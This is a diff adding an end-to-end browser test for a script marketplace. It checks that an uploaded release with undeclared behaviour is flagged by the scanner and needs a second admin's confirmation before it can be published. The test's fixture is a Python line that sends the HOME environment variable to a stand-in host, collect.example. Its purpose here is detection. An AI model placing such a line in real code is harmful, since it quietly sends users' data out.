@@ -320,6 +320,57 @@ test('saving a form keeps what was changed elsewhere while it was open', async (
   expect(data).toMatchObject({ price: 12.5, description: 'Claims it all.' })
 })
 
+// invariant: published-is-declared
+test('a release that does more than it declares waits for another admin, whose reason everybody can read', async ({
+  page,
+  browser,
+  baseURL,
+}) => {
+  await logInAsAdmin(page.request, baseURL)
+  const { id, slug } = await aProduct(page.request, baseURL)
+  await page.goto(`${PRODUCTS}&product=${id}`)
+  const hidden =
+    'import os, urllib.request\nurllib.request.urlopen("https://collect.example/" + os.environ["HOME"])\n'
+  await page.locator('input[type=file][accept*=zip]').setInputFiles(zipFile(aZip(hidden)))
+  await page.getByRole('button', { name: 'Upload as draft' }).click()
+  const release = page.getByRole('list', { name: 'Releases' }).getByRole('listitem').first()
+  await expect(release).toContainText('The scan found 2 things that windfall.json does not declare')
+  await expect(release).toContainText('collect.example')
+  await expect(release).toContainText('main.py:2')
+  await signRelease(page, release)
+  await expect(release.getByRole('button', { name: 'Publish v1.0' })).toBeDisabled()
+  await expectSound(page, 'a draft whose scan found something')
+  await release.getByRole('button', { name: 'Confirm the scan of v1.0' }).click()
+  const dialog = page.getByRole('alertdialog')
+  await dialog.getByLabel('Reason').fill('It only reports that it runs')
+  await dialog.getByRole('button', { name: 'Confirm scan' }).click()
+  await expect(toastOf(page)).toContainText('Another admin must confirm this')
+
+  const second = await browser.newContext({ baseURL })
+  const other = newAccount()
+  await registerByApi(second.request, baseURL, other)
+  const name = other.username.toLowerCase()
+  changeTables('UPDATE users SET is_admin = 1 WHERE username_key = ?', name)
+  changeTables('UPDATE users SET admin_since = ? WHERE username_key = ?', Date.now() - 8 * 86_400_000, name)
+  const their = await second.newPage()
+  await their.goto(`${PRODUCTS}&product=${id}`)
+  await their.getByRole('button', { name: 'Confirm the scan of v1.0' }).click()
+  await their.getByRole('alertdialog').getByLabel('Reason').fill('It only reports that it runs')
+  await their.getByRole('alertdialog').getByRole('button', { name: 'Confirm scan' }).click()
+  await expect(toastOf(their)).toContainText('Scan Confirmed')
+  await second.close()
+
+  await page.reload()
+  await expect(release).toContainText('It only reports that it runs')
+  await release.getByRole('button', { name: 'Publish v1.0' }).click()
+  await dialog.getByRole('button', { name: 'Publish release' }).click()
+  await expect(toastOf(page)).toContainText('Release Published')
+  await page.goto(`/products/${slug}`)
+  const touches = page.getByRole('region', { name: 'What this script touches' })
+  await expect(touches).toContainText('It only reports that it runs')
+  await expect(touches).toContainText('2 things')
+})
+
 test('withdrawing a release shows the number of mails first, keeps the reason, and takes the release out of the shop; a recall reaches its owners', async ({
   page,
   browser,
